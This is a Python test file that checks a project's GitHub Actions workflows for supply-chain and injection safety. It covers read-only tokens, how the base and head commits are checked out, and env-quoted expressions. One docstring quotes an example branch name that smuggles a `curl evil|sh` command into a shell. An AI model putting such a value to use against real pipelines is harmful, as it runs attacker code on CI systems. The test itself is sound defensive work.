"""The workflows run the commands CONTRIBUTING.md's "What CI runs" names, so a contributor's local
`--base auto` check and sign-off check are CI's (issue #9 item 7), and the gate that judges a pull request
is the base's, from a workflow the pull request cannot edit (issue #16 item 1; docs/trust.md). (The schema
check of every workflow file is tests/test_workflows.py; the pins are tests/test_supply_chain.py.)
"""

from __future__ import annotations

import re

from ruamel.yaml import YAML

from ..support.paths import REPO

WORKFLOWS = REPO / ".github" / "workflows"
BASE_SHA = "${{ github.event.pull_request.base.sha }}"
HEAD_SHA = "${{ github.event.pull_request.head.sha }}"


def _load(name: str) -> dict:
    return YAML(typ="safe", pure=True).load((WORKFLOWS / name).read_text(encoding="utf-8"))


def _triggers(workflow: dict) -> dict:
    # YAML 1.1 reads a bare `on:` key as true; ruamel's safe loader keeps the string
    return workflow.get("on", workflow.get(True))


def _runs(name: str) -> list[str]:
    """Each single-line `run:` command of a workflow file, in order."""
    text = (WORKFLOWS / name).read_text(encoding="utf-8")
    return [m.group(1).strip() for m in re.finditer(r"^\s*run:\s*(\S.*)$", text, re.MULTILINE) if m.group(1) != "|"]


def test_the_entries_workflow_runs_the_tests_and_on_a_push_the_gate():
    """On a pull request ci.yml is the pull request's own (read from its merge commit): tests only."""
    workflow = _load("ci.yml")
    assert set(_triggers(workflow)) == {"push", "pull_request"}
    assert _runs("ci.yml") == ["bash .ci/run", "exchange verifier fetch", "exchange check"]
    steps = workflow["jobs"]["entries"]["steps"]
    gate = [s for s in steps if s.get("run") in ("exchange verifier fetch", "exchange check")]
    assert gate and all(s.get("if") == "github.event_name == 'push'" for s in gate)
    assert not any("--base" in s.get("run", "") for s in steps)


def _job_steps(job: dict) -> tuple[list[dict], list[dict]]:
    steps = job["steps"]
    return [s for s in steps if "uses" in s], [s for s in steps if "run" in s]


def test_attack_pull_request_judges_itself_the_gate_workflow_has_the_boundarys_shape():
    """The shape of issue #16 item 1: pull_request_target (the base's file), a read-only token, the base
    commit checked out and installed from its lock, the head checked out elsewhere as data only without
    credentials, and the base's commands run with the change as `--catalog`."""
    workflow = _load("gate.yml")
    assert list(_triggers(workflow)) == ["pull_request_target"]
    assert workflow["permissions"] == {"contents": "read"}
    assert set(workflow["jobs"]) == {"gate", "sign-off"}
    commands = {"gate": 'exchange check --catalog change --base "$BASE" --format github',
                "sign-off": 'exchange signoff --catalog change --base "$BASE" --format github'}
    for name, job in workflow["jobs"].items():
        assert "permissions" not in job  # nothing wider than the workflow's read-only token
        uses, runs = _job_steps(job)
        checkouts = [s for s in uses if s["uses"].startswith("actions/checkout@")]
        assert [c["with"]["path"] for c in checkouts] == ["base", "change"]
        base, change = (c["with"] for c in checkouts)
        assert base["ref"] == BASE_SHA and change["ref"] == HEAD_SHA
        assert base["persist-credentials"] is False and change["persist-credentials"] is False
        assert change["fetch-depth"] == 0
        install = next(s for s in runs if "pip install" in s["run"])
        assert install["working-directory"] == "base"
        assert "requirements.txt" in install["run"] and "--require-hashes" in install["run"]
        # nothing runs inside the change, and the change appears only as the catalog the base's gate reads
        assert all(s.get("working-directory") in (None, "base") for s in runs)
        for step in runs:
            words = step["run"].split()
            assert all(w in ("change",) or "change/" not in w for w in words), step["run"]
            if "change" in words:
                assert words[words.index("change") - 1] == "--catalog", step["run"]
        assert runs[-1]["run"] == commands[name] and runs[-1]["env"] == {"BASE": BASE_SHA}
    fetch = [s for s in _job_steps(workflow["jobs"]["gate"])[1] if "verifier fetch" in s["run"]]
    assert [s["run"] for s in fetch] == ["exchange verifier fetch --catalog base"]  # the base's pin


def test_no_other_workflow_runs_on_pull_request_target_with_the_change():
    """thanks.yml also runs on pull_request_target: it checks nothing out and runs none of the change."""
    for path in sorted(WORKFLOWS.glob("*.yml")):
        workflow = _load(path.name)
        if "pull_request_target" not in _triggers(workflow) or path.name == "gate.yml":
            continue
        for job in workflow["jobs"].values():
            assert not any(s.get("uses", "").startswith("actions/checkout@") for s in job["steps"]), path.name
            assert not any("run" in s for s in job["steps"]), path.name


def test_contributing_names_the_same_commands():
    text = (REPO / "CONTRIBUTING.md").read_text(encoding="utf-8")
    section = text[text.index("### What CI runs"):]
    for command in ("exchange check --catalog change --base <the pull request's base commit> --format github",
                    "exchange check --base auto",
                    "exchange signoff --catalog change --base <the pull request's base commit> --format github",
                    "exchange signoff --base auto", "bash .ci/run"):
        assert command in section, command


def test_no_expression_is_expanded_inside_a_run_line():
    """Attack: a branch name like `a";curl evil|sh;"` reaching a shell through `${{ … }}` in a run line.
    Every value the workflows take from the event goes through `env:`, quoted in the command."""
    for name in ("ci.yml", "gate.yml", "release.yml"):
        lines = (WORKFLOWS / name).read_text(encoding="utf-8").splitlines()
        for i, line in enumerate(lines):
            if not line.strip().startswith("run:"):
                continue
            indent = len(line) - len(line.lstrip())
            block = [line]
            for later in lines[i + 1:]:
                if later.strip() and len(later) - len(later.lstrip()) <= indent:
                    break
                block.append(later)
            assert not any("${{" in b for b in block), f"{name}: {line.strip()}"
